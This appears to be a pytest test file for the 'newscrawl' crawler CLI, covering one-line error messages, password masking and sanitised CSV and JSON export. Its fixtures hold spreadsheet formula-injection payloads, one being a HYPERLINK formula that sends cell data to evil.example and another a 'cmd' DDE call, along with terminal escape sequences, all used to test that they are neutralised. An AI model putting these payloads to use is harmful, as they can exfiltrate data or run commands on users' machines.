"""``newscrawl`` on bad input and on empty state, run as the operator runs it: a subprocess.

Bad input must end with exactly one line on stderr, exit code 2, no traceback and no
password. Each command runs in its own empty folder with REDIS_URL and DATABASE_URL removed
from the environment, so nothing of the machine's configuration leaks in.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from crawler import storage
from crawler.storing import store_article
from tests.crawltools import REPO
from tests.declared import WITH_DEMO

CONTRACT_FIELDS = ["url", "site", "title", "authors", "published", "modified", "language",
                   "description", "image", "tags", "text", "duplicate_of", "fetched_at"]  # fmt: skip


def run(tmp_path, *args, env=None, timeout=120):
    environment = {k: v for k, v in os.environ.items()
                   if k not in {"REDIS_URL", "DATABASE_URL", "NEWSCRAWL_ALLOW_PRIVATE"}}  # fmt: skip
    # the repository importable, for the test declarations (tests/declared)
    environment["PYTHONPATH"] = str(REPO) + os.pathsep + environment.get("PYTHONPATH", "")
    environment.update(env or {})
    return subprocess.run(
        [sys.executable, "-m", "crawler.cli", *args],
        cwd=tmp_path,
        env=environment,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def assert_bad_input(result, *must_contain, secret="s3cret"):
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert secret not in result.stderr and secret not in result.stdout
    assert lines[0].startswith("newscrawl ")
    for text in must_contain:
        assert text in lines[0], lines[0]
    return lines[0]


@pytest.mark.parametrize(
    "command",
    [
        ["status"],
        ["seed", "https://news.example/"],
        ["dead", "list"],
        ["status", "--json"],
        ["schedule", "https://news.example/"],
    ],
    ids=["status", "seed", "dead", "status-json", "schedule"],
)
def test_unreachable_redis(tmp_path, command):
    result = run(tmp_path, *command, "--redis", "redis://user:s3cret@127.0.0.1:1/0")
    line = assert_bad_input(result, "cannot reach Redis", "redis://user:***@127.0.0.1:1/0")
    assert line.startswith(f"newscrawl {command[0]}: ")
    assert result.stdout == ""


def test_schedule_with_no_site_to_schedule_says_so(tmp_path):
    # spiders/ declares no site: nothing to schedule unless targets are named
    result = run(tmp_path, "schedule", "--redis", "redis://127.0.0.1:1/0")
    assert_bad_input(result, "no site to schedule")


def test_schedule_refuses_a_leader_lease_of_zero(tmp_path):
    result = run(tmp_path, "schedule", "-s", "NEWS_SCHEDULE_LEADER_SECONDS=0", "--redis",
                 "redis://127.0.0.1:1/0")  # fmt: skip
    assert_bad_input(result, "NEWS_SCHEDULE_LEADER_SECONDS")


def test_unreachable_redis_from_the_environment(tmp_path):
    result = run(tmp_path, "status", env={"REDIS_URL": "redis://:s3cret@127.0.0.1:1/0"})
    assert_bad_input(result, "redis://:***@127.0.0.1:1/0")


def test_malformed_redis_url(tmp_path):
    result = run(tmp_path, "status", "--redis", "redis://user:s3cret@127.0.0.1:notaport/0")
    assert_bad_input(result, "invalid Redis URL")


def test_unreachable_database(tmp_path):
    result = run(tmp_path, "export", "--db", "postgresql://u:s3cret@127.0.0.1:1/x")
    assert_bad_input(result, "cannot reach the database", "u:***@127.0.0.1:1/x")
    assert result.stdout == ""


def test_unreachable_database_from_the_environment(tmp_path):
    result = run(tmp_path, "export", env={"DATABASE_URL": "postgresql://u:s3cret@127.0.0.1:1/x"})
    assert_bad_input(result, "cannot reach the database")


def test_unsupported_database_url(tmp_path):
    result = run(tmp_path, "export", "--db", "mysql://u:s3cret@127.0.0.1:1/x")
    assert_bad_input(result, "unsupported database")


@pytest.mark.parametrize(
    ("target", "expected"),
    [("http://", "URL without a host"), ("ftp://news.example/", "not an http(s) URL"),
     ("http://news.example:99999/", "Port out of range")],
)  # fmt: skip
def test_invalid_url_target(tmp_path, target, expected):
    # sites are resolved before Redis is touched: an unreachable one proves it
    result = run(tmp_path, "seed", target, "--redis", "redis://127.0.0.1:1/0")
    assert_bad_input(result, expected)


def test_unknown_site_name(tmp_path):
    result = run(
        tmp_path, "seed", "nosuchsite", "--redis", "redis://127.0.0.1:1/0", "-s", WITH_DEMO
    )
    assert_bad_input(result, "unknown site 'nosuchsite'", "declared sites: demo")


def test_unknown_site_in_crawl_touches_nothing(tmp_path):
    result = run(tmp_path, "crawl", "nosuchsite", "--redis", "redis://127.0.0.1:1/0")
    assert_bad_input(result, "unknown site")
    assert list(tmp_path.iterdir()) == []  # no database, no data folder


@pytest.mark.parametrize(
    ("override", "expected"),
    [("nope", "expected NAME=VALUE"), ("download_delay=1", "expected NAME=VALUE"),
     ("DOWNLOAD_DELAY=abc", "expected a number"), ("DOWNLOAD_DELAY=-2", "must not be negative"),
     ("NEWS_TYPO=1", "unknown setting NEWS_TYPO"), ("ITEM_PIPELINES=nope", "expected a JSON object"),
     ("NEWS_EXIT_WHEN_DRAINED=perhaps", "expected true or false")],
)  # fmt: skip
def test_malformed_setting(tmp_path, override, expected):
    result = run(tmp_path, "status", "-s", override, "--redis", "redis://127.0.0.1:1/0")
    assert_bad_input(result, expected)


def test_workers_must_be_positive(tmp_path):
    result = run(tmp_path, "crawl", "demo", "--workers", "0", "--redis", "redis://127.0.0.1:1/0")
    assert_bad_input(result, "--workers", "must be at least 1")


def test_extract_of_a_missing_path(tmp_path):
    result = run(tmp_path, "extract", str(tmp_path / "missing.html"))
    assert_bad_input(result, "no such file or folder", "missing.html")


def test_extract_with_an_invalid_url(tmp_path):
    page = tmp_path / "page.html"
    page.write_text("<html><body><p>x</p></body></html>")
    result = run(tmp_path, "extract", str(page), "--url", "ftp://news.example/")
    assert_bad_input(result, "not an http(s) URL")


def test_extract_reports_a_hostile_file_name_on_one_printable_line(tmp_path):
    folder = tmp_path / "pages"
    folder.mkdir()
    (folder / "evil\x1b]0;owned\x07\nline.html.gz").write_bytes(b"not gzip")
    result = run(tmp_path, "extract", str(folder))
    assert result.returncode == 1 and result.stdout == ""
    (line,) = result.stderr.splitlines()
    assert line.startswith("newscrawl: cannot read ") and "evil line.html.gz" in line
    assert not any(ord(c) < 0x20 for c in line)


def test_eval_of_a_non_folder(tmp_path):
    not_a_folder = tmp_path / "labels.json"
    not_a_folder.write_text("{}")
    result = run(tmp_path, "eval", str(not_a_folder))
    assert_bad_input(result, "not a folder")
    result = run(tmp_path, "eval", str(tmp_path / "missing"))
    assert_bad_input(result, "not a folder")


def test_export_with_a_bad_since(tmp_path):
    db = tmp_path / "a.db"
    _init_db(db)
    result = run(tmp_path, "export", "--db", f"sqlite:///{db}", "--since", "yesterday")
    assert_bad_input(result, "--since 'yesterday' is not an ISO 8601")


def test_sites_list(tmp_path):
    result = run(tmp_path, "sites", "list", "-s", WITH_DEMO)
    assert result.returncode == 0, result.stderr
    header, *rows = result.stdout.splitlines()
    assert header.split()[:2] == ["name", "home"]
    demo = next(row for row in rows if row.split()[0] == "demo")
    assert "http://127.0.0.2:8461/" in demo
    assert demo.split()[-1] == "9"  # entry points: home, 5 sections, feed, sitemap, robots


def test_sites_list_json(tmp_path):
    result = run(tmp_path, "sites", "list", "--json", "-s", WITH_DEMO)
    assert result.returncode == 0, result.stderr
    sites = {s["name"]: s for s in json.loads(result.stdout)}
    assert sites["demo"]["home"] == "http://127.0.0.2:8461/"
    assert sites["demo"]["origins"] == ["http://127.0.0.2:8461"]
    assert {"url": "http://127.0.0.2:8461/robots.txt", "kind": "robots"} in sites["demo"][
        "entry_points"
    ]


@pytest.mark.integration
def test_status_json_on_an_empty_frontier(tmp_path, redis_url, key_prefix):
    result = run(tmp_path, "status", "--json", "--redis", redis_url,
                 "-s", f"NEWS_KEY_PREFIX={key_prefix}")  # fmt: skip
    assert result.returncode == 0, result.stderr
    status = json.loads(result.stdout)
    assert status["queued"] == 0 and status["leased"] == 0 and status["dead_letters"] == 0
    assert status["prefix"] == key_prefix
    assert status["workers"] == [] and status["workers_alive"] == 0
    assert status["redis"] == redis_url


# --- export -----------------------------------------------------------------------------------


def _init_db(path, articles=()):
    engine = storage.create_db_engine(f"sqlite:///{path}")
    try:
        storage.init_schema(engine)
        for article in articles:
            store_article(engine, article)
    finally:
        engine.dispose()


def test_export_of_an_empty_database_prints_nothing(tmp_path):
    db = tmp_path / "empty.db"
    _init_db(db)
    result = run(tmp_path, "export", "--db", f"sqlite:///{db}")
    assert result.returncode == 0, result.stderr
    assert result.stdout == "" and result.stderr == ""


def test_export_of_a_database_never_crawled_prints_nothing(tmp_path):
    result = run(tmp_path, "export", "--db", f"sqlite:///{tmp_path / 'fresh.db'}")
    assert (result.returncode, result.stdout, result.stderr) == (0, "", "")


def test_export_csv_header_is_the_contract(tmp_path):
    db = tmp_path / "empty.db"
    _init_db(db)
    result = run(tmp_path, "export", "--db", f"sqlite:///{db}", "--format", "csv")
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [",".join(CONTRACT_FIELDS)]


ARTICLES = [
    {"url": "https://news.example/a/2", "site": "news", "title": "Two, with comma",
     "authors": ["Ann", "Bob"], "published": "2024-05-02T10:00:00+00:00", "modified": None,
     "language": "en", "description": None, "image": None, "tags": ["x", "y"],
     "text": "Para one.\n\nPara \"two\".", "duplicate_of": None,
     "fetched_at": "2024-05-02T11:00:00+00:00"},
    {"url": "https://other.example/1", "site": "other", "title": "Other", "authors": [],
     "published": None, "modified": None, "language": "de", "description": "d", "image": None,
     "tags": [], "text": "Body.", "duplicate_of": None, "fetched_at": "2024-05-01T11:00:00+00:00"},
]  # fmt: skip


def test_export_jsonl(tmp_path):
    db = tmp_path / "a.db"
    _init_db(db, ARTICLES)
    result = run(tmp_path, "export", "--db", f"sqlite:///{db}")
    assert result.returncode == 0, result.stderr
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert rows == [ARTICLES[1], ARTICLES[0]]  # oldest fetch first
    assert all(list(row) == CONTRACT_FIELDS for row in rows)


def test_export_filters(tmp_path):
    db = tmp_path / "a.db"
    _init_db(db, ARTICLES)
    by_site = run(tmp_path, "export", "--db", f"sqlite:///{db}", "--site", "news")
    assert [json.loads(x)["url"] for x in by_site.stdout.splitlines()] == [
        "https://news.example/a/2"
    ]
    since = run(
        tmp_path, "export", "--db", f"sqlite:///{db}", "--since", "2024-05-02T12:00:00+01:00"
    )
    assert [json.loads(x)["url"] for x in since.stdout.splitlines()] == ["https://news.example/a/2"]
    naive = run(tmp_path, "export", "--db", f"sqlite:///{db}", "--since", "2024-05-02")
    assert [json.loads(x)["url"] for x in naive.stdout.splitlines()] == ["https://news.example/a/2"]


def test_export_csv_rows(tmp_path):
    db = tmp_path / "a.db"
    _init_db(db, ARTICLES)
    result = run(tmp_path, "export", "--db", f"sqlite:///{db}", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["url"] for r in rows] == ["https://other.example/1", "https://news.example/a/2"]
    assert rows[1]["authors"] == "Ann; Bob" and rows[1]["tags"] == "x; y"
    assert rows[1]["title"] == "Two, with comma"
    assert rows[1]["text"] == 'Para one.\n\nPara "two".'
    assert rows[0]["authors"] == "" and rows[0]["published"] == ""


HOSTILE_ARTICLE = {
    "url": "https://evil.example/a", "site": "evil.example",
    "title": '=HYPERLINK("https://evil.example/?"&A1, "Click")', "authors": ["@SUM(1+1)", "Ann"],
    "published": None, "modified": None, "language": "en", "description": "+cmd|' /C calc'!A0",
    "image": None, "tags": ["\tx", "-2+3"], "text": "\rBody with \x1b[31mcolour\x9b and \u202eback.",
    "duplicate_of": None,
    "fetched_at": "2024-05-03T11:00:00+00:00",
}  # fmt: skip


def test_export_csv_neutralises_formulas_in_every_text_field(tmp_path):
    db = tmp_path / "a.db"
    _init_db(db, [HOSTILE_ARTICLE])
    result = run(tmp_path, "export", "--db", f"sqlite:///{db}", "--format", "csv")
    assert result.returncode == 0, result.stderr
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert row["title"] == "'" + HOSTILE_ARTICLE["title"]
    assert row["authors"] == "'@SUM(1+1); Ann"
    assert row["description"] == "'+cmd|' /C calc'!A0"
    assert row["tags"] == "'\tx; -2+3"
    # (text mode reads the leading CR back as a newline)
    assert row["text"][0] == "'" and row["text"][2:] == HOSTILE_ARTICLE["text"][1:]
    assert row["url"] == HOSTILE_ARTICLE["url"] and row["language"] == "en"


def test_export_jsonl_escapes_what_a_terminal_would_act_on(tmp_path):
    db = tmp_path / "a.db"
    _init_db(db, [HOSTILE_ARTICLE])
    result = run(tmp_path, "export", "--db", f"sqlite:///{db}")
    assert result.returncode == 0, result.stderr
    assert not any(c in result.stdout for c in "\x1b\x9b\r\u202e")
    assert json.loads(result.stdout) == HOSTILE_ARTICLE  # the same data, escaped


@pytest.mark.integration
def test_dead_list_shows_redis_text_as_escaped_json_lines(tmp_path, redis_url, key_prefix):
    import redis

    from crawler.coordination.keys import Keys

    entry = {"url": "https://evil.example/\x1b[2J", "reason": "HTTP 500\n\x9b31m\u202efake"}
    client = redis.Redis.from_url(redis_url, decode_responses=True)
    client.rpush(Keys(key_prefix).dead_letters, json.dumps(entry), "not json \x1b]0;x\x07")
    result = run(
        tmp_path, "dead", "list", "--redis", redis_url, "-s", f"NEWS_KEY_PREFIX={key_prefix}"
    )
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert [json.loads(line) for line in lines] == [
        entry,
        {"reason": "unreadable dead-letter entry", "raw": "not json \x1b]0;x\x07"},
    ]
    assert not any(c in result.stdout for c in "\x1b\x07\x9b\u202e")


@pytest.mark.parametrize(
    ("argv", "fragment"),
    [
        (["crawl"], "required: TARGET"),
        (["dead", "list", "--limit", "0"], "must be at least 1"),
        (
            ["worker", "--redis", "redis://127.0.0.1:1/0", "-s", "NEWS_SEEN_MODE=foo"],
            "NEWS_SEEN_MODE",
        ),
        (["status", "-s", "CONCURRENT_REQUESTS_PER_DOMAIN=0"], "must be at least 1"),
    ],
)
def test_usage_errors_are_one_line(tmp_path, argv, fragment):
    result = run(tmp_path, *argv)
    assert_bad_input(result, fragment)


UNREACHABLE = "redis://127.0.0.1:1/0"


@pytest.mark.parametrize(
    ("argv", "fragment"),
    [
        # numbers a setting cannot compute with
        (["status", "-s", "DOWNLOAD_DELAY=NaN", "--redis", UNREACHABLE], "finite number"),
        (["seed", "https://news.example/", "-s", "NEWS_LEASE_SECONDS=Infinity", "--redis", UNREACHABLE], "finite"),
        (["worker", "-s", "DOWNLOAD_TIMEOUT=1e308", "--redis", UNREACHABLE], "ten years"),
        (["crawl", "https://news.example/", "-s", "NEWS_SEEN_CAPACITY=1e20", "--redis", UNREACHABLE], "2**53"),
        # settings with structure, parsed before any work starts
        (["worker", "-s", "NEWS_ALLOW_NETWORKS=10.0.0.0/33", "--redis", UNREACHABLE], "10.0.0.0/33"),
        (["crawl", "https://news.example/", "-s", "NEWS_ALLOW_HOSTS=http://intranet.example/", "--redis",
          UNREACHABLE], "not a host name"),
        (["worker", "-s", 'ITEM_PIPELINES={"nosuch.Pipeline": 1}', "--redis", UNREACHABLE],
         "cannot import nosuch.Pipeline"),
        (["worker", "-s", 'FEEDS={"out.jsonl": {"format": "nosuch"}}', "--redis", UNREACHABLE],
         "format must be one of"),
        (["worker", "-s", "LOG_LEVEL=chatty", "--redis", UNREACHABLE], "expected one of"),
        (["status", "-s", "SPIDER_MODULES=nosuch", "--redis", UNREACHABLE], "cannot import"),
        # empty values that would silently mean a default
        (["status", "--redis", ""], "must not be empty"),
        (["export", "--db", ""], "must not be empty"),
        (["export", "--site", " "], "must not be empty"),
        (["extract", ""], "must not be empty"),
        (["eval", ""], "must not be empty"),
        (["seed", "", "--redis", UNREACHABLE], "must not be empty"),
        (["status", "-s", "USER_AGENT=", "--redis", UNREACHABLE], "must not be empty"),
        # a password in an argument the command quotes back (found by the fuzz test)
        (["worker", "--db", "x", "postgresql://u:s3cret@127.0.0.1:1/x"],
         "unrecognized arguments: postgresql://u:***@127.0.0.1:1/x"),
        (["seed", "https://u:s3cret@news.example:99999/", "--redis", UNREACHABLE], "Port out"),
        # control characters in arguments
        (["status", "--redis", UNREACHABLE + "\x1b[31m"], "argument 3"),
        (["seed", "https://news.example/\n", "--redis", UNREACHABLE], "control character"),
        # counts beyond what a command does at once
        (["crawl", "https://news.example/", "--workers", "257"], "must be at most 256"),
        (["crawl", "https://news.example/", "--workers", "9" * 5000], "is not a whole number"),
        (["dead", "list", "--limit", "10001"], "must be at most 10000"),
        # dates, URLs and paths the system cannot use
        (["export", "--since", "0001-01-01T00:00:00+01:00"], "out of range"),
        (["crawl", "https://news.example/", "--db", "postgresql+asyncpg://u:s3cret@127.0.0.1:1/x", "--redis",
          UNREACHABLE], "driver of 'postgresql+asyncpg://u:***@127.0.0.1:1/x' is not installed"),
        (["worker", "--db", "sqlite+pysqlcipher:///x.db", "--redis", UNREACHABLE], "not installed"),
        (["worker", "--db", "postgresql://u:s3cret@h:notaport/db"], "invalid database URL"),
        (["worker", "--db", "sqlite:///a.db?timeout=soon"], "invalid database URL"),
        (["status", "--redis", "rediss://127.0.0.1:1/0?ssl_cert_reqs=bogus"], "cannot use Redis"),
        (["status", "--redis", "redis://127.0.0.1:1/0?socket_timeout=soon"], "invalid Redis URL"),
        (["status", "--redis", "http://127.0.0.1:1/0"], "invalid Redis URL"),
        # port 0 silently meant the default port: the machine's own Redis or PostgreSQL
        (["status", "--redis", "redis://127.0.0.1:0/0"], "port 0 is no port"),
        (["worker", "--db", "postgresql://u:s3cret@127.0.0.1:0/x", "--redis", UNREACHABLE],
         "port 0 is no port"),
        (["extract", "a" * 5000], "File name too long"),
        (["export", "--db", f"sqlite:///{'a' * 300}.db"], "File name too long"),
        (["eval", "a" * 5000], "File name too long"),
        (["crawl", "https://news.example/", "-s", "NEWS_DATA_DIR=/proc/newscrawl", "--redis", UNREACHABLE],
         "cannot use the data folder"),
    ],
)  # fmt: skip
def test_bad_input_of_every_kind_is_one_line(tmp_path, argv, fragment):
    result = run(tmp_path, *argv)
    assert_bad_input(result, fragment)
    assert result.stdout == ""


def test_an_argument_that_is_not_utf8_is_one_line(tmp_path):
    environment = {k: v for k, v in os.environ.items() if k not in {"REDIS_URL", "DATABASE_URL"}}
    result = subprocess.run(
        [sys.executable, "-m", "crawler.cli", "seed", b"https://news.example/\xff", "--redis",
         UNREACHABLE],
        cwd=tmp_path, env=environment, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    line = assert_bad_input(result, "argument 2", "is not valid UTF-8 text")
    assert line.startswith("newscrawl seed: ")


@pytest.mark.integration
@pytest.mark.parametrize("command", [["dead", "list"], ["dead", "requeue"], ["status"]])
def test_a_wrong_typed_key_is_one_line_not_an_internal_error(
    tmp_path, redis_url, key_prefix, command
):
    import redis

    from crawler.coordination.keys import Keys

    keys = Keys(key_prefix)
    client = redis.Redis.from_url(redis_url, decode_responses=True)
    client.set(keys.dead_letters, "a string where a list belongs")
    client.set(keys.requests, "a string where a hash belongs")
    result = run(tmp_path, *command, "--redis", redis_url, "-s", f"NEWS_KEY_PREFIX={key_prefix}")
    line = assert_bad_input(result, "WRONGTYPE", "moves the bad keys aside")
    assert line.startswith(f"newscrawl {command[0]}: frontier data in Redis at ")


def test_an_unknown_command_is_one_line(tmp_path):
    result = run(tmp_path, "frobnicate")
    assert result.returncode == 2 and len(result.stderr.splitlines()) == 1
    assert "invalid choice" in result.stderr and "Traceback" not in result.stderr


def test_export_since_last_run_gives_exactly_what_arrived_since(tmp_path):
    db = tmp_path / "a.db"
    _init_db(db, ARTICLES)
    url = f"sqlite:///{db}"

    def export_last_run():
        result = run(tmp_path, "export", "--db", url, "--since", "last-run")
        assert result.returncode == 0, result.stderr
        return [json.loads(line)["url"] for line in result.stdout.splitlines()]

    assert export_last_run() == ["https://news.example/a/2", "https://other.example/1"]
    assert export_last_run() == []
    engine = storage.create_db_engine(url)
    # a late arrival replayed from a spool keeps its old fetch time; an update comes again
    late = {**ARTICLES[1], "url": "https://other.example/late", "text": "Late body.",
            "fetched_at": "2020-01-01T00:00:00+00:00"}  # fmt: skip
    store_article(engine, late)
    store_article(engine, {**ARTICLES[0], "title": "Two, corrected"})
    engine.dispose()
    assert export_last_run() == ["https://other.example/late", "https://news.example/a/2"]
    assert export_last_run() == []
    # the mark is kept per --site
    other = run(tmp_path, "export", "--db", url, "--since", "last-run", "--site", "other")
    assert [json.loads(x)["url"] for x in other.stdout.splitlines()] == [
        "https://other.example/1", "https://other.example/late"
    ]  # fmt: skip


@pytest.mark.integration
def test_dead_list_shows_readable_times(tmp_path, redis_url, key_prefix):
    import redis

    from crawler.coordination.keys import Keys

    entry = {"url": "https://a.example/x", "reason": "HTTP 500", "time": 1_800_000_000_000}
    client = redis.Redis.from_url(redis_url, decode_responses=True)
    client.rpush(Keys(key_prefix).dead_letters, json.dumps(entry))
    result = run(
        tmp_path, "dead", "list", "--redis", redis_url, "-s", f"NEWS_KEY_PREFIX={key_prefix}"
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["time"] == "2027-01-15T08:00:00+00:00"
